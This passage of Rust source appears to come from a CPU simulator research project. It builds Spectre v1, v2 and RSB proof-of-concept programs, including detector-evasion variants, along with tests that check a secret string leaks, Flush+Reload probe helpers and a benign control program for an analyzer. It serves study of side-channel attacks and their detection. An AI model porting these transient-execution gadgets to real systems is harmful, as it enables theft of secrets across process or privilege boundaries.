        format!("spectre-v1-{}", params.variant.tag())
    };
    let mut a = Assembler::new(name);
    install_common_segments(&mut a);
    a.data(AUX_SLOT, 64u64.to_le_bytes().to_vec());
    // Length-pointer variant: AUX_SLOT+8 holds a pointer to the length.
    a.data(AUX_SLOT + 8, ARRAY1_SIZE_ADDR.to_le_bytes().to_vec());

    let victim = a.label();
    let outer = a.label();

    // Pre-warm the secret lines (the victim "recently used" its secret, as
    // in the PoCs; keeps the transient gadget's first load fast).
    emit_touch_range(&mut a, USER_SECRET, 1);

    a.li(Reg::R20, 0); // secret byte index i
    a.li(Reg::R28, 0x1357_9bdf_2468_ace1); // xorshift state for train counts
    a.bind(outer);
    if params.delay_iters > 0 {
        emit_delay(&mut a, params.delay_iters);
    }
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence(); // order the flushes before the speculation phase (mfence)

    // Pseudo-random training count 4..=11 so neither the local history nor
    // the global history can learn when the attack iteration comes.
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    a.li(Reg::R21, 0); // j: 0..=train_count, last iteration attacks
    let train_top = a.label();
    a.bind(train_top);
    // Branch-free index selection (as in the original PoC, which uses
    // bit masks here precisely so the selection does not pollute the
    // branch history the attack is mistraining).
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26); // 1 while training
    a.sub(Reg::R9, Reg::R0, Reg::R9); // all-ones mask while training
    a.andi(Reg::R22, Reg::R21, 7); // training x
    adjust_training_index(&mut a, params.variant, Reg::R22);
    a.li(Reg::R23, (USER_SECRET - ARRAY1) as i64); // attack x
    a.add(Reg::R23, Reg::R23, Reg::R20);
    adjust_attack_index(&mut a, params.variant, Reg::R23);
    a.and(Reg::R22, Reg::R22, Reg::R9);
    a.xori(Reg::R8, Reg::R9, -1); // ~mask
    a.and(Reg::R23, Reg::R23, Reg::R8);
    a.or(Reg::R24, Reg::R22, Reg::R23);
    if params.variant == V1Variant::SumIndex {
        // Second parameter: 0 while training, 0x100 on the attack call.
        a.li(Reg::R27, 0x100);
        a.and(Reg::R27, Reg::R27, Reg::R8);
    }
    a.mark(MarkKind::PhaseSpeculate);
    // Flush the bound so the check resolves slowly (the window).
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.flush(Reg::R5, 0);
    if params.variant == V1Variant::SeparateSafetyFlag
        || params.variant == V1Variant::LastKnownGood
        || params.variant == V1Variant::PointerToLength
    {
        a.li(Reg::R5, AUX_SLOT as i64);
        a.flush(Reg::R5, 0);
    }
    a.fence(); // the PoCs' mfence: the bound really is uncached when read
    a.call(victim);
    a.addi(Reg::R21, Reg::R21, 1);
    // One attack iteration after training: loop while j <= train_count.
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    if params.delay_iters > 0 {
        emit_delay(&mut a, params.delay_iters);
    }
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // ---- victim(x in R24) ----
    a.bind(victim);
    emit_victim(&mut a, params.variant);

    a.finish().expect("spectre_v1 assembles")
}

/// Training-index adjustment so each variant's index transformation still
/// lands in bounds during training. Operates on `x` in place.
fn adjust_training_index(a: &mut Assembler, v: V1Variant, x: Reg) {
    match v {
        V1Variant::ShiftedIndex => {
            // Victim shifts left by one; train with x in 0..4 so x<<1 < 8.
            a.andi(x, x, 3);
        }
        V1Variant::InvertLowBits => {
            // Victim xors with 1; any x in 0..8 stays in bounds.
        }
        _ => {}
    }
}

/// Attack-index adjustment inverting each variant's transformation.
/// Operates on `x` in place.
fn adjust_attack_index(a: &mut Assembler, v: V1Variant, x: Reg) {
    match v {
        V1Variant::ShiftedIndex => {
            // Victim computes x<<1: pass half the offset. The secret offset
            // is even, i may be odd; the halved index loses bit 0, so this
            // variant leaks even bytes only — a lossy polymorphic variant,
            // as in the paper ("some variations don't leak").
            a.shri(x, x, 1);
        }
        V1Variant::SumIndex => {
            // x = a + b: split the offset across the two parameters (the
            // caller selects R27 = 0x100 on the attack iteration).
            a.subi(x, x, 0x100);
        }
        V1Variant::InvertLowBits => {
            // Victim xors with 1: pre-invert so it cancels.
            a.xori(x, x, 1);
        }
        _ => {}
    }
}

/// Emits the victim function for the given variant. `x` arrives in `R24`;
/// the body performs a (mispredictable) safety check and the two-load leak
/// gadget, then returns.
fn emit_victim(a: &mut Assembler, v: V1Variant) {
    let skip = a.label();
    let x = Reg::R24;
    let (size, y) = (Reg::R6, Reg::R7);

    // ---- the safety check ----
    match v {
        V1Variant::MaskedBoundsCheck => {
            // if ((x & 7) == x) → in bounds. Mispredictable equality branch.
            a.andi(Reg::R8, x, 7);
            a.bne(Reg::R8, x, skip);
            // Load the (flushed) size anyway so the timing window exists.
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
        }
        V1Variant::LastKnownGood => {
            // if (x > last_good) skip; last_good lives in flushed memory.
            a.li(Reg::R5, AUX_SLOT as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
        }
        V1Variant::SeparateSafetyFlag => {
            // Caller-provided flag in memory gates the access.
            a.li(Reg::R5, AUX_SLOT as i64);
            a.load(Reg::R8, Reg::R5, 0);
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
            a.beqz(Reg::R8, skip);
        }
        V1Variant::PointerToLength => {
            // Double indirection: load the pointer, then the length.
            a.li(Reg::R5, (AUX_SLOT + 8) as i64);
            a.load(Reg::R8, Reg::R5, 0);
            a.load(size, Reg::R8, 0);
            a.bge(x, size, skip);
        }
        V1Variant::InlineCheck => {
            // Inline check: compute (x - size) and branch on the sign.
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.sub(Reg::R8, x, size);
            a.li(Reg::R9, 0);
            a.bge(Reg::R8, Reg::R9, skip);
        }
        _ => {
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
        }
    }

    // ---- index transformation inside the victim ----
    match v {
        V1Variant::ShiftedIndex => a.shli(x, x, 1),
        V1Variant::InvertLowBits => a.xori(x, x, 1),
        V1Variant::SumIndex => a.add(x, x, Reg::R27),
        _ => {}
    }

    // ---- the leak gadget ----
    match v {
        V1Variant::LeakViaFunction => {
            // Leak through a real (non-inlinable) function call.
            let leak_fn = a.label();
            a.call(leak_fn);
            a.bind(skip);
            a.ret();
            a.bind(leak_fn);
            emit_two_load_gadget(a, x, y);
            a.ret();
        }
        V1Variant::ForLoopIndex => {
            // for (k = x; k < x + 1; k++) leak(array1[k]);
            let (k, lim) = (Reg::R8, Reg::R9);
            a.mv(k, x);
            a.addi(lim, x, 1);
            let top = a.label();
            a.bind(top);
            emit_two_load_gadget(a, k, y);
            a.addi(k, k, 1);
            a.blt(k, lim, top);
            a.bind(skip);
            a.ret();
        }
        V1Variant::LeakComparison => {
            // Leak array1[x] == k as one bit: probe line 0 or 1.
            a.li(Reg::R5, ARRAY1 as i64);
            a.add(Reg::R5, Reg::R5, x);
            a.loadb(y, Reg::R5, 0);
            a.li(Reg::R8, b'T' as i64); // k, attacker-provided
            a.li(Reg::R9, 0);
            let neq = a.label();
            a.bne(y, Reg::R8, neq);
            a.li(Reg::R9, 1);
            a.bind(neq);
            a.shli(Reg::R9, Reg::R9, 6);
            a.addi(Reg::R9, Reg::R9, PROBE_ARRAY as i64);
            a.loadb(y, Reg::R9, 0);
            a.bind(skip);
            a.ret();
        }
        V1Variant::MemcmpLeak => {
            // memcmp(array1 + x, probe_key, 1)-style: byte-compare loop
            // whose load feeds the channel.
            a.li(Reg::R5, ARRAY1 as i64);
            a.add(Reg::R5, Reg::R5, x);
            a.loadb(y, Reg::R5, 0);
            a.li(Reg::R8, 0);
            let top = a.label();
            a.bind(top);
            a.shli(Reg::R9, y, 6);
            a.addi(Reg::R9, Reg::R9, PROBE_ARRAY as i64);
            a.loadb(Reg::R5, Reg::R9, 0);
            a.addi(Reg::R8, Reg::R8, 1);
            a.li(Reg::R9, 1);
            a.blt(Reg::R8, Reg::R9, top);
            a.bind(skip);
            a.ret();
        }
        _ => {
            emit_two_load_gadget(a, x, y);
            a.bind(skip);
            a.ret();
        }
    }
}

/// The canonical two-load disclosure gadget:
/// `y = array1[x]; tmp = probe[y * 64];`
fn emit_two_load_gadget(a: &mut Assembler, x: Reg, y: Reg) {
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, x);
    a.loadb(y, Reg::R5, 0);
    a.shli(y, y, 6);
    a.addi(y, y, PROBE_ARRAY as i64);
    a.loadb(Reg::R5, y, 0);
}

/// Builds the cross-function SpectreV1 variant: the flushed bounds check
/// and the secret load live in the *callee*, which returns the byte in a
/// register; the probe-array touch that transmits it lives in the *caller*,
/// after the `ret`. The transient window opened by the mispredicted check
/// carries execution through the return and into the caller's transmit
/// sequence — a gadget no intraprocedural region analysis can pair up,
/// since the dependent loads sit in different functions.
///
/// Architecturally the caller's transmit always runs, but with the stale
/// register value from the last training call (an [`ARRAY1`] byte < 16),
/// touching only the probe lines the argmin sweep ignores.
pub fn spectre_v1_crossfn() -> Program {
    let mut a = Assembler::new("spectre-v1-crossfn");
    install_common_segments(&mut a);

    let victim = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    a.li(Reg::R20, 0); // secret byte index i
    a.li(Reg::R28, 0x6a09_e667_bb67_ae85); // xorshift state
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    // Pseudo-random training count 4..=11 (same rationale as spectre_v1).
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    a.li(Reg::R21, 0); // j: 0..=train_count, last iteration attacks
    let train_top = a.label();
    a.bind(train_top);
    // Branch-free index selection, as in spectre_v1.
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26);
    a.sub(Reg::R9, Reg::R0, Reg::R9);
    a.andi(Reg::R22, Reg::R21, 7);
    a.li(Reg::R23, (USER_SECRET - ARRAY1) as i64);
    a.add(Reg::R23, Reg::R23, Reg::R20);
    a.and(Reg::R22, Reg::R22, Reg::R9);
    a.xori(Reg::R8, Reg::R9, -1);
    a.and(Reg::R23, Reg::R23, Reg::R8);
    a.or(Reg::R24, Reg::R22, Reg::R23);
    a.mark(MarkKind::PhaseSpeculate);
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.flush(Reg::R5, 0);
    a.fence();
    a.call(victim);
    // Caller half of the gadget: transmit the byte the callee returned in
    // R7 through the probe array. Runs transiently with the secret while
    // the callee's bounds check is still resolving.
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.addi(Reg::R21, Reg::R21, 1);
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // ---- victim(x in R24) -> byte in R7 ----
    // Only the check and the secret load; no transmit.
    a.bind(victim);
    let skip = a.label();
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.load(Reg::R6, Reg::R5, 0); // slow: just flushed
    a.bge(Reg::R24, Reg::R6, skip);
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, Reg::R24);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.bind(skip);
    a.ret();

    a.finish().expect("spectre_v1_crossfn assembles")
}

/// Benign control for the interprocedural analyzer: a helper function
/// whose loaded result feeds a dependent load back in the caller — the
/// same cross-function dependent-pair *shape* as [`spectre_v1_crossfn`] —
/// but with no flush, no mispredictable guard against flushed data, and no
/// timing measurement. A precise analyzer must leave it clean.
pub fn crossfn_benign() -> Program {
    let mut a = Assembler::new("crossfn-benign");
    a.data(ARRAY1, (0u8..16).collect::<Vec<u8>>());
    a.data(PROBE_ARRAY, vec![1u8; 256 * 64]);

    let helper = a.label();
    let done = a.label();

    a.li(Reg::R20, 0); // i
    a.li(Reg::R21, 64); // iterations
    let top = a.label();
    a.bind(top);
    a.andi(Reg::R24, Reg::R20, 7);
    a.call(helper);
    // Dependent use of the callee's result: index a table with it.
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.addi(Reg::R20, Reg::R20, 1);
    a.blt(Reg::R20, Reg::R21, top);
    a.jmp(done);

    // helper(x in R24) -> byte in R7, with an in-bounds check.
    a.bind(helper);
    let skip = a.label();
    a.li(Reg::R6, 16);
    a.bge(Reg::R24, Reg::R6, skip);
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, Reg::R24);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.bind(skip);
    a.ret();

    a.bind(done);
    a.halt();
    a.finish().expect("crossfn_benign assembles")
}

/// Builds the SpectreV2 PoC: branch target injection through the BTB.
///
/// The attacker trains an indirect call site to target a disclosure gadget,
/// then redirects it (architecturally) to a benign function whose target
/// loads slowly — the BTB speculates into the gadget.
pub fn spectre_v2() -> Program {
    let mut a = Assembler::new("spectre-v2");
    install_common_segments(&mut a);
    a.data(TARGET_SLOT, vec![0u8; 8]);

    let gadget = a.label();
    let benign = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    // Store the benign target into TARGET_SLOT and keep the gadget address
    // in a register for the mistraining calls.
    a.la(Reg::R6, benign);
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.store(Reg::R6, Reg::R5, 0);
    a.la(Reg::R13, gadget);

    a.li(Reg::R20, 0); // secret index
    a.li(Reg::R28, 0x0f1e_2d3c_4b5a_6978); // xorshift state
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    // Pseudo-random training count (same rationale as SpectreV1).
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    // Mistrain and attack through the SAME indirect call site: while
    // training, the architectural target is the gadget (the BTB learns it);
    // on the final iteration the target — loaded slowly from just-flushed
    // memory — is the benign function, and the BTB speculates into the
    // gadget with the pointer now aimed at the secret.
    a.li(Reg::R21, 0);
    let train_top = a.label();
    a.bind(train_top);
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26);
    a.sub(Reg::R9, Reg::R0, Reg::R9); // all-ones while training
    a.xori(Reg::R8, Reg::R9, -1); // all-ones on the attack iteration
                                  // Target selection.
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.flush(Reg::R5, 0);
    a.fence();
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.load(Reg::R22, Reg::R5, 0); // slow: just flushed
    a.and(Reg::R23, Reg::R13, Reg::R9); // gadget while training
    a.and(Reg::R22, Reg::R22, Reg::R8); // benign on attack
    a.or(Reg::R12, Reg::R23, Reg::R22);
    // Pointer selection: harmless probe line while training, the secret
    // byte on the attack iteration.
    a.li(Reg::R23, PROBE_ARRAY as i64);
    a.and(Reg::R23, Reg::R23, Reg::R9);
    a.li(Reg::R22, USER_SECRET as i64);
    a.add(Reg::R22, Reg::R22, Reg::R20);
    a.and(Reg::R22, Reg::R22, Reg::R8);
    a.or(Reg::R14, Reg::R23, Reg::R22);
    a.mark(MarkKind::PhaseSpeculate);
    a.call_ind(Reg::R12);
    a.addi(Reg::R21, Reg::R21, 1);
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // Gadget: leak the byte R14 points at.
    a.bind(gadget);
    a.loadb(Reg::R7, Reg::R14, 0);
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.ret();

    a.bind(benign);
    a.ret();

    a.finish().expect("spectre_v2 assembles")
}

/// Builds the SpectreRSB PoC: pollute the return stack buffer with an
/// unmatched call/return pair.
///
/// `f` overwrites its own return address; the RAS still predicts the call's
/// fall-through, where the attacker has planted a disclosure gadget.
pub fn spectre_rsb() -> Program {
    let mut a = Assembler::new("spectre-rsb");
    install_common_segments(&mut a);

    let f = a.label();
    let after = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    a.li(Reg::R20, 0);
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    a.li(Reg::R14, USER_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.la(Reg::R9, after);
    a.mark(MarkKind::PhaseSpeculate);
    a.call(f);
    // Fall-through of the call: the RAS prediction target. The disclosure
    // gadget lives here and only ever executes speculatively.
    a.loadb(Reg::R7, Reg::R14, 0);
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.bind(after);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // f: unmatched call/return — replaces its return address.
    a.bind(f);
    a.set_ret(Reg::R9);
    a.ret();

    a.finish().expect("spectre_rsb assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout::RESULTS;
    use sim_cpu::{Core, CoreConfig};

    fn leak_rate(program: Program, insts: u64) -> (f64, Core) {
        let mut core = Core::new(CoreConfig::default(), program);
        core.run(insts);
        let mut hits = 0;
        let mut total = 0;
        for (i, &expect) in SECRET.iter().enumerate() {
            let got = core.mem().memory().read(RESULTS + i as u64, 1) as u8;
            if got != 0 {
                total += 1;
                if got == expect {
                    hits += 1;
                }
            }
        }
        let rate = if total == 0 {
            0.0
        } else {
            hits as f64 / total as f64
        };
        (rate, core)
    }

    #[test]
    fn spectre_v1_classic_leaks_the_secret() {
        let (rate, core) = leak_rate(spectre_v1(SpectreV1Params::default()), 3_000_000);
        assert!(
            rate > 0.7,
            "SpectreV1 should recover most attempted bytes, got {rate}"
        );
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
        assert!(
            core.marks().iter().any(|m| m.kind == MarkKind::LeakByte),
            "leak marks recorded"
        );
    }

    #[test]
    fn spectre_v2_btb_injection_leaks() {
        let (rate, core) = leak_rate(spectre_v2(), 3_000_000);
        assert!(rate > 0.5, "SpectreV2 should leak, got {rate}");
        assert!(
            core.stats().bpred.indirect_mispredicted.value() > 0,
            "the injected target must mispredict architecturally"
        );
    }

    #[test]
    fn spectre_rsb_leaks_through_the_ras() {
        let (rate, core) = leak_rate(spectre_rsb(), 3_000_000);
        assert!(rate > 0.5, "SpectreRSB should leak, got {rate}");
        assert!(core.stats().bpred.ras_incorrect.value() > 0);
    }

    #[test]
    fn spectre_v1_crossfn_leaks_through_the_return() {
        let (rate, core) = leak_rate(spectre_v1_crossfn(), 3_000_000);
        assert!(
            rate > 0.5,
            "cross-function SpectreV1 should leak through the ret, got {rate}"
        );
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
        assert!(
            core.marks().iter().any(|m| m.kind == MarkKind::LeakByte),
            "leak marks recorded"
        );
    }

    #[test]
    fn crossfn_benign_runs_to_completion() {
        let mut core = Core::new(CoreConfig::default(), crossfn_benign());
        let s = core.run(100_000);
        assert!(s.halted, "benign control halts");
    }

    #[test]
    fn all_polymorphic_variants_assemble_and_run() {
        for v in V1Variant::POLYMORPHIC {
            let p = spectre_v1(SpectreV1Params {
                variant: v,
                delay_iters: 0,
            });
            let mut core = Core::new(CoreConfig::default(), p);
            let s = core.run(100_000);
            assert!(s.committed > 10_000, "variant {v:?} must make progress");
            assert!(
                core.stats().commit.squashed_insts.value() > 0,
                "variant {v:?} must speculate"
            );
        }
    }

    #[test]
    fn bandwidth_reduced_variant_still_speculates() {
        let p = spectre_v1(SpectreV1Params {
            variant: V1Variant::Classic,
            delay_iters: 3000,
        });
        let mut core = Core::new(CoreConfig::default(), p);
        core.run(500_000);
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
    }
}
