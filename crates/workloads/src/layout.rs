//! Shared address-space layout and assembler building blocks for the attack
//! PoCs.

use uarch_isa::{Assembler, Reg};

/// Cache line size used throughout the workloads.
pub const LINE: u64 = 64;

/// The Flush+Reload probe array: 256 lines, one per possible byte value.
pub const PROBE_ARRAY: u64 = 0x10_0000;

/// SpectreV1's in-bounds array (16 bytes).
pub const ARRAY1: u64 = 0x20_0000;

/// Address holding `array1_size` (its own cache line, flushable).
pub const ARRAY1_SIZE_ADDR: u64 = 0x20_1000;

/// User-space secret the Spectre variants leak (reachable out-of-bounds
/// from [`ARRAY1`]). Deliberately placed on L1D set 16 so the victim's own
/// secret read does not alias the sets Prime+Probe monitors (sets 0..16).
pub const USER_SECRET: u64 = 0x24_0400;

/// Kernel-space secret (Meltdown / CacheOut territory; faults at commit).
pub const KERNEL_SECRET: u64 = 0x8000_0000;

/// Victim scratch buffer for the cache attacks.
pub const VICTIM_BUF: u64 = 0x30_0000;

/// Prime+Probe's eviction-set arena.
pub const PRIME_ARENA: u64 = 0x40_0000;

/// Recovered bytes are stored here so tests can verify end-to-end leakage.
pub const RESULTS: u64 = 0x50_0000;

/// The secret string every attack tries to recover.
pub const SECRET: &[u8] = b"TheMagicWords!!!";

/// Register conventions shared by the attack kit helpers: helpers clobber
/// only `R1..=R7`; workload state lives in `R10..=R25`.
pub mod regs {
    use uarch_isa::Reg;

    /// Scratch registers the kit helpers may clobber.
    pub const SCRATCH: [Reg; 7] = [
        Reg::R1,
        Reg::R2,
        Reg::R3,
        Reg::R4,
        Reg::R5,
        Reg::R6,
        Reg::R7,
    ];
}

/// Emits a probe sweep over the 256 lines of [`PROBE_ARRAY`], timing each
/// reload and leaving the index of the fastest line (the leaked byte) in
/// `out`.
///
/// Clobbers `R1..=R7`. Relies on `rdcycle` being serializing, so no fences
/// are needed around the timed load.
pub fn emit_probe_argmin(a: &mut Assembler, out: Reg) {
    emit_probe_argmin_from(a, out, 0);
}

/// Like [`emit_probe_argmin`] but starting the sweep at line `first`.
///
/// The Spectre variants probe from 16: their training iterations
/// architecturally touch probe lines 0..16 (`array2[array1[x] * 64]` with
/// in-bounds `x`), and ASCII secrets are ≥ 32 anyway — the same reason the
/// original PoC can ignore its low lines.
pub fn emit_probe_argmin_from(a: &mut Assembler, out: Reg, first: i64) {
    let (idx, best_t) = (Reg::R1, Reg::R2);
    let (addr, t0, t1, limit) = (Reg::R3, Reg::R4, Reg::R5, Reg::R6);
    a.li(best_t, i64::MAX);
    a.li(out, 0);
    a.li(idx, first);
    a.li(limit, 256);
    let top = a.label();
    let not_better = a.label();
    a.bind(top);
    a.shli(addr, idx, 6);
    a.addi(addr, addr, PROBE_ARRAY as i64);
    a.rdcycle(t0);
    a.loadb(Reg::R7, addr, 0);
    a.rdcycle(t1);
    a.sub(t1, t1, t0);
    a.bge(t1, best_t, not_better);
    a.mv(best_t, t1);
    a.mv(out, idx);
    a.bind(not_better);
    a.addi(idx, idx, 1);
    a.blt(idx, limit, top);
}

/// Emits a flush of `lines` consecutive cache lines starting at `base`.
///
/// Clobbers `R1` and `R2`.
pub fn emit_flush_range(a: &mut Assembler, base: u64, lines: u64) {
    let (addr, limit) = (Reg::R1, Reg::R2);
    a.li(addr, base as i64);
    a.li(limit, (base + lines * LINE) as i64);
    let top = a.label();
    a.bind(top);
    a.flush(addr, 0);
    a.addi(addr, addr, LINE as i64);
    a.blt(addr, limit, top);
}

/// Emits loads touching `lines` consecutive cache lines starting at `base`
/// (pre-warming or priming).
///
/// Clobbers `R1..=R3`.
pub fn emit_touch_range(a: &mut Assembler, base: u64, lines: u64) {
    let (addr, limit) = (Reg::R1, Reg::R2);
    a.li(addr, base as i64);
    a.li(limit, (base + lines * LINE) as i64);
    let top = a.label();
    a.bind(top);
    a.loadb(Reg::R3, addr, 0);
    a.addi(addr, addr, LINE as i64);
    a.blt(addr, limit, top);
}

/// Emits a busy-wait of roughly `iters` ALU iterations (safe filler used by
/// the bandwidth-reduction evasion variants).
///
/// Clobbers `R1`.
pub fn emit_delay(a: &mut Assembler, iters: i64) {
    if iters <= 0 {
        return;
    }
    let c = Reg::R1;
    a.li(c, iters);
    let top = a.label();
    a.bind(top);
    a.subi(c, c, 1);
    a.bnez(c, top);
}

/// Emits `mem8[RESULTS + slot_reg] = byte_reg` — recording a recovered
/// byte for end-to-end verification.
///
/// Clobbers `R1`.
pub fn emit_record_result(a: &mut Assembler, slot: Reg, byte: Reg) {
    let addr = Reg::R1;
    a.li(addr, RESULTS as i64);
    a.add(addr, addr, slot);
    a.storeb(byte, addr, 0);
}

/// Installs the standard data segments most attacks need: the probe array,
/// `array1` + its size, the user secret, and the results buffer.
pub fn install_common_segments(a: &mut Assembler) {
    a.data(PROBE_ARRAY, vec![1u8; 256 * LINE as usize]);
    a.data(
        ARRAY1,
        vec![0u8, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15],
    );
    a.data(ARRAY1_SIZE_ADDR, 16u64.to_le_bytes().to_vec());
    a.data(USER_SECRET, SECRET.to_vec());
    a.data(RESULTS, vec![0u8; 64]);
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_cpu::{Core, CoreConfig};

    #[test]
    fn probe_argmin_finds_the_cached_line() {
        let mut a = Assembler::new("probe-test");
        install_common_segments(&mut a);
        // Flush the whole probe array, then touch line 0x41 only.
        emit_flush_range(&mut a, PROBE_ARRAY, 256);
        a.li(Reg::R10, (PROBE_ARRAY + 0x41 * LINE) as i64);
        a.loadb(Reg::R11, Reg::R10, 0);
        emit_probe_argmin(&mut a, Reg::R20);
        a.halt();
        let mut core = Core::new(CoreConfig::default(), a.finish().unwrap());
        core.run(2_000_000);
        assert!(core.halted());
        assert_eq!(
            core.reg(Reg::R20),
            0x41,
            "fastest probe line = touched line"
        );
    }

    #[test]
    fn delay_loop_executes_expected_iterations() {
        let mut a = Assembler::new("delay-test");
        emit_delay(&mut a, 50);
        a.halt();
        let mut core = Core::new(CoreConfig::default(), a.finish().unwrap());
        let s = core.run(10_000);
        assert!(s.halted);
        // 2 instructions per iteration plus setup.
        assert!(s.committed >= 100);
    }

    #[test]
    fn record_result_writes_to_results_buffer() {
        let mut a = Assembler::new("record-test");
        install_common_segments(&mut a);
        a.li(Reg::R10, 3); // slot
        a.li(Reg::R11, 0x5a); // byte
        emit_record_result(&mut a, Reg::R10, Reg::R11);
        a.halt();
        let mut core = Core::new(CoreConfig::default(), a.finish().unwrap());
        core.run(10_000);
        assert_eq!(core.mem().memory().read(RESULTS + 3, 1), 0x5a);
    }
}
