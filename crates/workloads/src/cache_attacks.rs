//! The cache side-channel attacks: Flush+Reload, Flush+Flush, Prime+Probe,
//! and their calibration (threshold-finding) programs.
//!
//! All three monitor an in-process victim that touches one of 16 cache
//! lines depending on the current secret nibble. The attacks differ only in
//! their measurement primitive — which is exactly what gives them their
//! distinct microarchitectural footprints:
//!
//! - Flush+Reload: flush, let the victim run, *reload with a timed load*
//!   (memory-barrier heavy → `fetch.PendingQuiesceStallCycles`).
//! - Flush+Flush: never loads — *times the flush itself*
//!   (`commit.NonSpecStalls` from the non-speculative flushes; no cache
//!   misses from the attacker, the property that defeats miss-counting
//!   detectors).
//! - Prime+Probe: no flushes at all — fills cache sets with its own lines
